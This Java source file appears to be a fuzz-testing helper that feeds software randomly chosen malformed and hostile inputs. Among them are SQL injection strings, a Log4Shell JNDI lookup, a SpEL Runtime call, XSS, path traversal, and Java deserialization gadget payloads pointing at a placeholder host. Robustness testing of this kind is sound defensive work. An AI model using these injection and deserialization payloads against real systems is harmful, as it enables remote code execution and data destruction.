package io.baton.faults.hostile;

import java.util.List;
import java.util.Random;

/** Texts, names and JSON that are known to break software. */
final class HostileInputs {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "\u0000\u0001\u001f",
            "\r\n\tINFO forged line",
            "\u001b[31mred\u001b[0m",
            "'; DROP TABLE baton_job; --",
            "\" OR 1=1",
            "$$ || pg_sleep(1) || $$",
            "\\",
            "\\u0000",
            "${jndi:ldap://nowhere/a}",
            "#{T(java.lang.Runtime).getRuntime().exit(1)}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "%s%n%d",
            "{}",
            "\ud800",
            "\udc00\ud800",
            "\ud83d\ude00",
            "\u202eabc",
            "\ufeffbom",
            "\ufffe\uffff",
            "e\u0301\u0301\u0301",
            "ﷺ".repeat(50),
            "null",
            "NaN",
            "-0",
            "9".repeat(400));

    private static final List<String> JSON = List.of(
            "",
            "null",
            "[]",
            "{",
            "}",
            "\"text\"",
            "1e400",
            "{\"text\":1}",
            "{\"item\":\"x\"}",
            "{\"item\":1e99}",
            "{\"item\":99999999999999999999999999}",
            "{\"text\":{\"text\":{}}}",
            "{\"@class\":\"javax.swing.JEditorPane\",\"page\":\"http://nowhere/\"}",
            "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://nowhere/a\",\"autoCommit\":true}]",
            "{\"text\":[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://nowhere/x.xml\"]}",
            "{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}",
            "{\"text\":\"a\",\"text\":\"b\"}",
            "\u0001",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "<xml/>");

    private final Random random;

    HostileInputs(Random random) {
        this.random = random;
    }

    String text() {
        return switch (random.nextInt(6)) {
            case 0 -> letters(random.nextInt(40));
            case 1 -> anyChars(random.nextInt(60));
            case 2 -> pick(TEXTS) + pick(TEXTS);
            case 3 -> letters(90 + random.nextInt(130));
            default -> pick(TEXTS);
        };
    }

    String json() {
        return switch (random.nextInt(8)) {
            case 0 -> "[".repeat(1 + random.nextInt(20_000));
            case 1 -> "{\"text\":".repeat(1 + random.nextInt(2_000));
            case 2 -> "{\"item\":" + "1".repeat(1 + random.nextInt(5_000)) + "}";
            case 3 -> anyChars(random.nextInt(200)).replace("\0", "").replaceAll("[\\ud800-\\udfff]", "");
            default -> pick(JSON);
        };
    }

    private String pick(List<String> from) {
        return from.get(random.nextInt(from.size()));
    }

    private String letters(int length) {
        return random.ints(length, 'a', 'z' + 1)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    /** Halves of surrogate pairs included. */
    private String anyChars(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) random.nextInt(0x10000));
        }
        return text.toString();
    }
}
